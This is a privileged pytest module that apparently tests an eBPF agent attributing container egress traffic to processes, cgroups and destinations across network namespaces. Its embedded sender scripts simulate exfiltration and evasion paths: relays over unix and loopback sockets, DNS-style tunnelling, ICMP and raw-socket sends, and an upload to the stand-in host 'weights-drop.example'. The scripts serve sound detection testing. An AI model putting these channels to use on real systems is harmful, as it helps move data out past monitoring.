"""eBPF attribution across network namespaces: a "container" (own network and mount namespace, a
Kubernetes-shaped cgroup) routed through a "host" namespace where the agent runs.

One lab and one agent serve the module; each test reads the samples taken after it started.
Ground truth: iperf3's own byte count, curl's upload sizes, what our senders wrote.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.containers import CTR_ID, POD_UID, AgentTop, Lab, lab_fixture
from tests.helpers.iperf import credited_as_sent, left_the_host
from tests.helpers.netns import wait_for
from weightwarden.events import EgressSample

pytestmark = pytest.mark.privileged

TCP_PORT, UDP_PORT, IPERF_PORT = 8080, 9000, 5201


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    yield from lab_fixture()


@pytest.fixture(scope="module")
def agent(lab: Lab) -> Iterator[AgentTop]:
    lab.sink(TCP_PORT, UDP_PORT, quiet=False)
    top = AgentTop(lab, "--interval", "1")
    top.wait_ready()
    yield top
    top.stop()


def _since(agent: AgentTop, start: int) -> list[dict[str, Any]]:
    agent.wait_samples(2)  # the interval in flight, then one more
    return agent.samples[start:]


def _per_pid(samples: list[dict[str, Any]]) -> dict[int, dict[str, Any]]:
    out: dict[int, dict[str, Any]] = defaultdict(lambda: {"tx_bytes": 0, "destinations": [], "local_peers": []})
    for sample in samples:
        for proc in sample["processes"]:
            entry = out[proc["pid"]]
            entry["tx_bytes"] += proc["tx_bytes"]
            entry["destinations"] += proc["destinations"]
            entry["local_peers"] += proc.get("local_peers", [])
            entry.update({k: proc.get(k) for k in ("name", "exe", "cgroup", "container", "start_time")})
    return dict(out)


def test_container_upload_credited_to_its_process_and_container(lab: Lab, agent: AgentTop) -> None:
    lab.popen(lab.out, "iperf3", "-s", "-1", "-p", str(IPERF_PORT), "-B", lab.out_addr,
              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    assert wait_for(lambda: f":{IPERF_PORT}" in subprocess.run(
        ["ip", "netns", "exec", lab.out, "ss", "-ltn"], capture_output=True, text=True).stdout)
    start = len(agent.samples)
    client = lab.popen_ctr("iperf3", "-c", lab.out_addr, "-p", str(IPERF_PORT), "-n", "200M", "-J",
                           stdout=subprocess.PIPE)
    out, _ = client.communicate(timeout=120)
    assert client.returncode == 0
    report = json.loads(out)
    samples = _since(agent, start)
    assert {s["attribution"] for s in samples} == {"ebpf"}
    for s in samples:
        EgressSample.model_validate(s)  # what the collector will accept
    pids = _per_pid(samples)
    iperf = {pid: p for pid, p in pids.items() if p["name"] == "iperf3"}
    assert len(iperf) == 1, pids
    proc = next(iter(iperf.values()))
    assert credited_as_sent(proc["tx_bytes"], report), (proc["tx_bytes"], left_the_host(report), {
        pid: (p["name"], p["tx_bytes"]) for pid, p in pids.items()}, [
        (i["name"], i.get("attributed_tx_bytes"), i.get("unexplained_tx_bytes")) for s in samples
        for i in s.get("interfaces", ())], [s.get("sensor") for s in samples][-1:])
    assert proc["cgroup"] == lab.pod_rel
    assert proc["container"] == {"cgroup": lab.pod_rel, "runtime": "containerd", "id": CTR_ID, "pod_uid": POD_UID,
                                 "unit": f"cri-containerd-{CTR_ID}.scope"}
    dests = {(d["address"], d["port"], d["protocol"]) for d in proc["destinations"]}
    assert (lab.out_addr, IPERF_PORT, "tcp") in dests
    data = [d for d in proc["destinations"] if d["tx_bytes"] > 1_000_000]
    assert data and all(d["accepted"] is False and d["connections"] >= 1 for d in data)
    for d in data:  # first/last send lie within the sample's interval
        assert d["first_ts"] <= d["last_ts"]
    others = sum(p["tx_bytes"] for pid, p in pids.items() if pid not in iperf)
    assert others < 0.01 * left_the_host(report)[1]


def test_hundred_short_lived_container_uploads(lab: Lab, agent: AgentTop, tmp_path: Path) -> None:
    blob = tmp_path / "blob"
    blob.write_bytes(os.urandom(200_000))
    start = len(agent.samples)
    script = (f"for i in $(seq 100); do curl -s -H 'Expect:' -o /dev/null -T {blob} "
              f"http://{lab.out_addr}:{TCP_PORT}/up || exit 1; done")
    res = lab.run_ctr("bash", "-c", script)
    assert res.returncode == 0, res.stderr
    pids = _per_pid(_since(agent, start))
    curls = {pid: p for pid, p in pids.items() if p["name"] == "curl"}
    expected = 100 * 200_000
    credited = sum(p["tx_bytes"] for p in curls.values())
    assert credited >= 0.98 * expected, (credited, len(curls))
    assert credited <= 1.01 * expected
    assert len(curls) >= 98
    unnamed = [p for p in curls.values() if not p["container"] or p["container"].get("id") != CTR_ID]
    assert not unnamed, unnamed[:2]


RELAYS = r"""
import os, socket, sys, time
payload = b"w" * 3_000_000
# 1. a unix socket to another process (the relay)
a, b = socket.socketpair()
if os.fork() == 0:
    a.close(); got = 0
    while got < len(payload):
        got += len(b.recv(1 << 20))
    os._exit(0)
b.close(); a.sendall(payload); a.close(); os.wait()
# 2. a loopback TCP proxy in another process
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
if os.fork() == 0:
    c, _ = srv.accept(); got = 0
    while got < len(payload):
        got += len(c.recv(1 << 20))
    os._exit(0)
s = socket.create_connection(srv.getsockname()); s.sendall(payload); s.close(); os.wait()
# 3. DNS tunnelling through a local resolver: many queries to port 53 on loopback
res = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); res.bind(("127.0.0.1", 53))
if os.fork() == 0:
    for _ in range(200):
        data, peer = res.recvfrom(2048); res.sendto(b"ok", peer)
    os._exit(0)
q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(200):
    q.sendto(b"t" * 500, ("127.0.0.1", 53)); q.recv(16)
os.wait()
# 4. ICMP (an unprivileged ping socket) and a raw socket, out of the container
ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
for i in range(20):
    ping.sendto(b"\x08\x00\x00\x00\x00\x00\x00" + bytes([i]) + b"p" * 1000, (sys.argv[1], 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
for _ in range(20):
    raw.sendto(b"r" * 1000, (sys.argv[1], 0))
print(os.getpid(), flush=True)
time.sleep(0.5)
"""


def test_relays_icmp_and_raw_are_seen(lab: Lab, agent: AgentTop) -> None:
    start = len(agent.samples)
    res = lab.run_ctr(sys.executable, "-c", RELAYS, lab.out_addr, check=False)
    assert res.returncode == 0, res.stderr
    sender = int(res.stdout.split()[0])
    pids = _per_pid(_since(agent, start))
    assert sender in pids, sorted((p, v["name"]) for p, v in pids.items())
    me = pids[sender]
    peers: dict[tuple[str, int | None], int] = defaultdict(int)
    for peer in me["local_peers"]:
        peers[(peer["via"], peer.get("port") if peer["via"] != "unix" else None)] += peer["tx_bytes"]
        if peer["via"] in ("unix", "tcp"):
            assert peer.get("pid") not in (None, sender) and peer.get("name") == me["name"], peer
    assert peers[("unix", None)] == 3_000_000
    assert [v for k, v in peers.items() if k[0] == "tcp"] == [3_000_000]
    assert peers[("udp", 53)] == 200 * 500
    by_proto: dict[str, int] = defaultdict(int)
    for d in me["destinations"]:
        by_proto[d["protocol"]] += d["tx_bytes"]
    assert by_proto["icmp"] == 20 * 1000 and by_proto["raw"] == 20 * 1000, me["destinations"]
    assert me["tx_bytes"] == 40 * 1000, "loopback transfers are not egress"


def test_a_server_in_the_container_replies_on_accepted_connections(lab: Lab, agent: AgentTop) -> None:
    server = lab.popen_ctr(sys.executable, "-m", "tests.helpers.sink", lab.ctr_addr, "8081", "9001",
                           stdout=subprocess.PIPE)
    assert server.stdout is not None and server.stdout.readline().strip() == b"ready"
    start = len(agent.samples)
    for _ in range(5):
        res = subprocess.run(["ip", "netns", "exec", lab.out, "curl", "-s", "-H", "Expect:", "-T", "/etc/hostname",
                              f"http://{lab.ctr_addr}:8081/"], capture_output=True, check=False)
        assert res.returncode == 0
    pids = _per_pid(_since(agent, start))
    replies = [d for p in pids.values() if p["name"].startswith("python") for d in p["destinations"]
               if d["address"] == lab.out_addr]
    assert replies and all(d["accepted"] is True for d in replies)
    assert sum(d.get("connections", 0) for d in replies) == 5


def test_a_namespace_that_appears_later_is_picked_up_within_an_interval(lab: Lab, agent: AgentTop) -> None:
    late = f"wwl-{lab.tag}"
    subprocess.run(["ip", "netns", "add", late], check=True)
    try:
        subprocess.run(["ip", "link", "add", f"wl{lab.tag}"[:15], "netns", late, "type", "veth", "peer", "name",
                        f"wm{lab.tag}"[:15], "netns", lab.out], check=True)
        for ns, dev, addr in ((late, f"wl{lab.tag}"[:15], "198.19.254.9/24"), (lab.out, f"wm{lab.tag}"[:15],
                                                                                 "198.19.254.1/24")):
            subprocess.run(["ip", "-n", ns, "addr", "add", addr, "dev", dev], check=True)
            subprocess.run(["ip", "-n", ns, "link", "set", dev, "up"], check=True)
        cg = lab.subgroup("late.scope")
        start = len(agent.samples)
        t0 = time.time()
        sender = subprocess.run(
            ["sh", "-c", f"echo $$ > {cg}/cgroup.procs && exec nsenter --net=/run/netns/{late} {sys.executable} -c "
             "\"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
             "[s.sendto(b'x' * 1000, ('198.19.254.1', 9)) for _ in range(100)]; import os; print(os.getpid())\""],
            capture_output=True, text=True, check=True)
        pid = int(sender.stdout)
        samples = _since(agent, start)
        got = [(s["ts"], p) for s in samples for p in s["processes"] if p["pid"] == pid]
        assert got and sum(p["tx_bytes"] for _ts, p in got) == 100 * 1000
        assert got[0][0] - t0 < 2.5, "seen in the first sample after it sent"
        assert got[0][1]["cgroup"].endswith("/late.scope")
    finally:
        subprocess.run(["ip", "netns", "del", late], check=False)


def test_padding_keeps_samples_bounded(lab: Lab, agent: AgentTop) -> None:
    start = len(agent.samples)
    code = ("import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"for p in range(20000, 35000): s.sendto(b'x', ('{lab.out_addr}', p))\nimport os; print(os.getpid())")
    pid = int(lab.run_ctr(sys.executable, "-c", code).stdout)
    samples = _since(agent, start)
    total = 0
    for s in samples:
        assert len(json.dumps(s)) < 256 * 1024, "a sample stays far below the collector's limit"
        EgressSample.model_validate(s)
        for p in s["processes"]:
            if p["pid"] == pid:
                assert len(p["destinations"]) <= 32
                total += p["tx_bytes"]
    assert total == 15_000


LOOKUP_AND_SEND = r"""
import os, socket, sys
import dns.message
q = dns.message.make_query("weights-drop.example", "A")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(q.to_wire(), (sys.argv[1], 53))
addr = dns.message.from_wire(u.recv(4096)).answer[0][0].to_text()
s = socket.create_connection((addr, int(sys.argv[2]))); s.sendall(b"w" * 500_000); s.close()
print(os.getpid())
"""


def test_destinations_carry_the_name_looked_up_in_the_container(lab: Lab, agent: AgentTop) -> None:
    dns_server = lab.popen(lab.out, sys.executable, "-m", "tests.helpers.dns_server", lab.out_addr, lab.out_addr,
                           stdout=subprocess.PIPE)
    assert dns_server.stdout is not None and dns_server.stdout.readline().strip() == b"ready"
    start = len(agent.samples)
    pid = int(lab.run_ctr(sys.executable, "-c", LOOKUP_AND_SEND, lab.out_addr, str(TCP_PORT)).stdout)
    pids = _per_pid(_since(agent, start))
    dests = [d for d in pids[pid]["destinations"] if d["port"] == TCP_PORT]
    assert dests and {d.get("name") for d in dests} == {"weights-drop.example"}
    assert sum(d["tx_bytes"] for d in dests) == 500_000
